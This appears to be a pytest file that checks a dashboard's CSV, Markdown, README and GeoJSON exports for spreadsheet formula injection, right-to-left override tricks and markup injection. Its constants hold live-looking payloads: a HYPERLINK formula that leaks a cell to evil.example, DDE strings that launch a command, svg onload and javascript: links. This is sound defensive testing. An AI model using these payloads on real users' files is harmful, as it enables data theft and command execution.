"""Downloads are data, never code: no cell a spreadsheet runs, no live Markdown, no reversed text.

The payloads are the shapes a hostile-input probe found in the CSV zip (formulas in
titles, outlets and quotes; a right-to-left override in a headline; markup in an
operation name), put into the seed briefing for Libertad.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import zipfile
from types import MappingProxyType

import pandas as pd
import pytest

from dashboard.exports import citations, data_export
from dashboard.safe import SPREADSHEET_TRIGGERS, spreadsheet_cell
from ingest.tables import ALL_TABLES

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS_TEXT = "-5 suspects"
TAB_FORMULA = "\t=1+1"
REVERSED = "\u202egnikciffart\u202c news"
MARKUP_OPERATION = "Operation <svg onload=alert('op')> [x](javascript:alert(1)) www.evil.example"
TEXT_COLUMNS = {
    table.name: {column.name for column in table.columns if column.dtype == "string"}
    for table in ALL_TABLES
}
SCHEMA = {table.name: table for table in ALL_TABLES}


@pytest.fixture(scope="module")
def poisoned(briefings):
    """The Libertad briefing with formulas, a reversed headline and markup in its cells."""
    briefing = briefings["libertad"]
    articles = briefing.tables["articles"].copy()
    articles.loc[articles.index[0], "title"] = HYPERLINK
    articles.loc[articles.index[0], "publisher"] = AT_SUM
    articles.loc[articles.index[-1], "title"] = REVERSED
    quotes = briefing.tables["quotes"].copy()
    quotes.loc[quotes.index[0], "text"] = PLUS_CMD
    quotes.loc[quotes.index[0], "speaker_title"] = TAB_FORMULA
    quotes.loc[quotes.index[1], "text"] = f"{MARKUP_OPERATION} &lt;b&gt; {REVERSED}"
    figures = briefing.tables["figures"].copy()
    figures.loc[figures.index[0], "surface"] = MINUS_TEXT
    figures["value"] = figures["value"].astype("Int64")
    figures.loc[figures.index[0], "value"] = -5
    tables = dict(briefing.tables, articles=articles, quotes=quotes, figures=figures)
    return dataclasses.replace(
        briefing, tables=MappingProxyType(tables), description=MARKUP_OPERATION
    )


def zip_members(briefing) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data_export.tables_zip(briefing))) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def raw_cells(text: str) -> list[dict[str, str]]:
    """The CSV's cells exactly as a spreadsheet receives them (no type guessing)."""
    return list(csv.DictReader(io.StringIO(text)))


def runnable_cells(members: dict[str, str]) -> list[str]:
    """Every text cell a spreadsheet would evaluate, as ``table.column: value``."""
    found = []
    for name, text in members.items():
        table = name.removesuffix(".csv")
        if table not in TEXT_COLUMNS:
            continue
        for row in raw_cells(text):
            found += [
                f"{table}.{column}: {value[:40]}"
                for column, value in row.items()
                if column in TEXT_COLUMNS[table] and value.startswith(SPREADSHEET_TRIGGERS)
            ]
    return found


def test_no_cell_of_the_poisoned_zip_is_a_formula(poisoned):
    members = zip_members(poisoned)
    assert runnable_cells(members) == []
    articles = raw_cells(members["articles.csv"])
    assert {row["title"] for row in articles} >= {"'" + HYPERLINK}
    assert {row["publisher"] for row in articles} >= {"'" + AT_SUM}
    quotes = raw_cells(members["quotes.csv"])
    assert "'" + PLUS_CMD in {row["text"] for row in quotes}
    assert "'" + TAB_FORMULA in {row["speaker_title"] for row in quotes}


def test_numbers_stay_numbers_and_text_like_a_number_is_text(poisoned):
    figures_csv = zip_members(poisoned)["figures.csv"]
    first = raw_cells(figures_csv)[0]
    assert first["value"] == "-5", "a number column is never quoted"
    assert first["surface"] == "'" + MINUS_TEXT
    typed = pd.read_csv(io.StringIO(figures_csv), dtype=SCHEMA["figures"].dtypes)
    assert typed["value"].iloc[0] == -5


@pytest.mark.parametrize("name", ["libertad", "liberterra", "both"])
def test_the_seed_zips_hold_no_formula_and_say_how_cells_are_kept_safe(briefings, name):
    members = zip_members(briefings[name])
    assert runnable_cells(members) == []
    readme = " ".join(members["README.md"].split())
    assert "single quote (`'`)" in readme and "OWASP" in readme
    assert "GeoJSON map layer are plain text" in readme


def test_the_readme_holds_the_operation_name_as_inert_text(poisoned):
    readme = zip_members(poisoned)["README.md"]
    (filters_line,) = [line for line in readme.splitlines() if line.startswith("Filters:")]
    assert re.search(r"(?<!\\)[<>\[\]()]", filters_line.removeprefix("Filters:")) is None
    assert "\\<svg onload=alert\\(" in filters_line, "the name is kept, escaped"
    assert "www\u2060.evil.example" in filters_line, "a bare address is not a link"


def test_the_markdown_quotes_hold_article_text_as_inert_text(poisoned):
    markdown = citations.quotes_markdown(poisoned).decode("utf-8")
    (line,) = [line for line in markdown.splitlines() if line.startswith("- ") and "svg" in line]
    words = line.split("“", 1)[1].split("”", 1)[0]
    assert re.search(r"(?<!\\)[<>\[\]()&]", words) is None, words
    assert "www\u2060.evil.example" in words and "\u202e" not in words


def test_reordering_characters_are_written_out_in_every_file(poisoned):
    members = zip_members(poisoned)
    assert not [name for name, text in members.items() if "\u202e" in text]
    titles = {row["title"] for row in raw_cells(members["articles.csv"])}
    assert "[U+202E]gnikciffart[U+202C] news" in titles


def test_geojson_strings_are_plain_text_and_say_so(poisoned):
    hostile = dataclasses.replace(poisoned, description=f"{REVERSED} {MARKUP_OPERATION}")
    collection = json.loads(data_export.map_geojson(hostile))
    assert "plain text" in collection["text"] and "escape it" in collection["text"]
    assert collection["description"].startswith("[U+202E]gnikciffart[U+202C]")
    assert "<svg onload=alert('op')>" in collection["description"], "kept as the text it is"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Radio Habana Cuba", "Radio Habana Cuba"),
        ("a = b", "a = b"),
        ("\u202e=1+1", "[U+202E]=1+1"),
        ("bell\x07 and \x9b", "bell[U+0007] and [U+009B]"),
        ("two\nlines\tand tab", "two\nlines\tand tab"),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_cell(cell, expected):
    assert spreadsheet_cell(cell) == expected
